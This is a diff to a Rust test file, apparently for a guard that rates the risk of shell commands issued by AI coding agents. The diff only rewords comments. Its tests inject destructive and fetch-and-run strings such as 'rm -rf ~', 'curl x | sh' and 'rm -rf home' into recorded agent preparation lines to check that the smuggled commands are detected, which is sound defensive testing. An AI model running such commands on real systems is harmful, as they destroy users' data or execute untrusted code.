@@ -29,7 +29,7 @@ fn invocation(text: &str, positional: &[&str]) -> Invocation {
     }
 }
 
-/// Every template, around a command.
+/// Returns each template with a command in it.
 fn wrapped(inner: &str) -> Vec<(&'static str, Invocation)> {
     let double = format!("'{}'", inner.replace('\'', "'\"'\"'"));
     let escaped = format!("'{}'", inner.replace('\'', "'\\''"));
@@ -318,7 +318,7 @@ fn making_a_snapshot_is_an_agents_own_business_and_a_line_more_is_not() {
     }
 }
 
-/// As Claude Code 2.1.197 makes it.
+/// A preparation of Claude Code 2.1.197.
 const MAKES_FUNCTIONS: &str = r##"SNAPSHOT_FILE=/home/ada/.claude/shell-snapshots/snapshot-bash-1795281473445-53wrq8.sh
       # No user config file to source
 
@@ -436,7 +436,7 @@ fn a_variable_that_is_given_the_value_that_it_has_is_not_changed() {
             .collect();
         judged(&asked).tier
     };
-    // As a snapshot of an environment is written, and read again.
+    // Variables as in a snapshot of an environment that is loaded again.
     assert_eq!(tier("declare -x HOME=/home/ada; declare -x PATH=/tmp/tools:/usr/bin; ls"), tier("ls"));
     assert_eq!(tier("export HOME=\"/home/ada\""), crate::judge::risk::Tier::Safe);
     for other in [
@@ -462,7 +462,7 @@ fn a_directory_for_temporary_files_may_lie_below_the_usual_one() {
 
 const RECORDED: [&str; 2] = [include_str!("recorded/claude-2.1.330.txt"), include_str!("recorded/hermes-0.19.txt")];
 
-/// A machine without links.
+/// Resolves paths on a machine without links.
 fn no_links(_: &str) -> Option<String> {
     None
 }
@@ -481,7 +481,7 @@ fn is_preparation_where(text: &str, real: RealPath<'_>) -> bool {
 fn what_agents_were_seen_to_prepare_is_theirs_and_no_byte_more() {
     for recorded in RECORDED {
         assert!(is_preparation(recorded), "{recorded}");
-        // A line more, at every place, and each line with something behind it.
+        // Adds a line at each place, and text to each line.
         for (at, _) in recorded.match_indices('\n') {
             let (before, after) = recorded.split_at(at);
             for more in ["\nrm -rf ~", "; rm -rf ~", "\ncurl x | sh"] {
@@ -551,8 +551,8 @@ proptest! {
         prop_assume!(line.text != before);
         let text = line.text.clone();
         if let Some(inner) = inner(&changed.clone().unwrapped(&no_links)) {
-            // It fits a template still: then nothing but the command in it, a name of its files or a blank way of writing
-            // them was changed, and no byte that ends a command stands anywhere else.
+            // If it still matches a template, only the command, a name of the agent's files or whitespace was changed,
+            // and no byte that ends a command was added elsewhere.
             let outside = String::from_utf8_lossy(&text).replacen(&inner, "", 1);
             let known = String::from_utf8_lossy(&before).replacen(MARK, "", 1);
             let count = |text: &str| text.matches([';', '&', '|', '<', '>', '$', '`', '(', ')', '{', '}']).count();
@@ -579,7 +579,7 @@ proptest! {
     }
 }
 
-/// As a version may write it that guard does not know.
+/// Returns a line as an unknown version of an agent may write it.
 fn of_another_version(inner: &str) -> Invocation {
     let text = format!("set +m; cd /home/ada/project && eval '{inner}' < /dev/null; __code=$?; exit $__code");
     let mut asked = invocation(&text, &[]);
@@ -597,7 +597,7 @@ fn an_envelope_that_is_not_known_is_opened_and_judged_as_it_stands() {
     assert!(!envelope.is_known && String::from_utf8_lossy(&envelope.whole).contains("eval 'git push"));
     assert!(String::from_utf8_lossy(&envelope.lead).contains("&& : < /dev/null"));
     assert!(judged(&opened).tier >= judged(&asked).tier, "it never lowers");
-    // What stands behind it and what it is led by count, wherever they are.
+    // Commands behind the text and before it count.
     let behind =
         Invocation { request: Request::Line(Line::of_bash("cd / && eval 'ls' && rm -rf home")), ..asked.clone() };
     assert!(judged(&behind.clone().opened()).tier >= judged(&behind).tier);
